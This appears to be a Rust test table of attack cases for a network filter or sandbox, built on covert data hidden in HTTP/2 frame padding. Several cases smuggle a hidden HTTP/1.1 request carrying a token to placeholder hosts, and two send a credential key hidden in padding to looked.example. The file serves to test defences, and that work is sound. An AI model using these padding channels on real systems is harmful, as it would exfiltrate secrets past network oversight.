//! HTTP/2 pads frames with bytes that mean nothing: what is hidden in them passes whoever does not look,
//! and is read by whoever does.
//!
//! Behind the hosts somebody takes what frames are padded with for the next request.

use super::credentials::{key, leaves, own};
use super::web::{attack, reached, two_head};
use crate::attack::Attack;
use crate::scene::{Outcome, Scene};
use crate::tongue::{Greeting, ask_two_padded, dial};

/// Nothing but padding.
const NOTHING: [u8; 64] = [0; 64];

pub(crate) const TABLE: &[Attack] = &[
    reached("web.two-padded-is-reached", |scene| {
        let path = format!("/v1/{}", scene.token()?);
        let head = two_head("paths.example", &path, "http");
        ask_two_padded(&mut dial("paths.example", 80)?, &head, None, &NOTHING)
    }),
    attack("web.two-request-behind-head", |scene| {
        let head = two_head("paths.example", "/v1/x", "http");
        let hidden = hidden(scene, "paths.example")?;
        ask_two_padded(&mut dial("paths.example", 80)?, &head, None, hidden.as_bytes())
    }),
    attack("web.two-request-behind-head-over-tls", |scene| {
        let head = two_head("paths.example", "/v1/x", "https");
        over_tls("paths.example", &head, None, hidden(scene, "paths.example")?.as_bytes())
    }),
    attack("web.two-request-behind-body", |scene| {
        let mut head = two_head("sync.example", "/v1/x", "http");
        head[0].1 = "POST";
        let hidden = hidden(scene, "sync.example")?;
        ask_two_padded(&mut dial("sync.example", 80)?, &head, Some("x"), hidden.as_bytes())
    }),
    leaves("secret.behind-a-head", |_| {
        let head = two_head("looked.example", "/", "https");
        over_tls("looked.example", &head, None, key().as_bytes())
    }),
    leaves("secret.behind-a-body", |_| {
        let mut head = two_head("looked.example", "/", "https");
        head[0].1 = "POST";
        over_tls("looked.example", &head, Some("x"), key().as_bytes())
    }),
    // To the host that it belongs to as well: it is put in where it is read, and nowhere else.
    own("pinned.behind-a-head", |scene| {
        let head = two_head("pin.example", "/", "https");
        let hidden = format!("authorization: Bearer {}", scene.token()?);
        over_tls("pin.example", &head, None, hidden.as_bytes())
    }),
];

/// A request that no rule lets pass.
fn hidden(scene: &Scene, host: &str) -> Outcome {
    Ok(format!("GET /v2/{} HTTP/1.1\r\nHost: {host}\r\n\r\n", scene.token()?))
}

fn over_tls(host: &str, head: &[(&str, &str)], body: Option<&str>, padding: &[u8]) -> Outcome {
    let greeting = Greeting { protocol: b"h2", ..Greeting::to(host) };
    ask_two_padded(&mut greeting.over(dial(host, 443)?)?, head, body, padding)
}
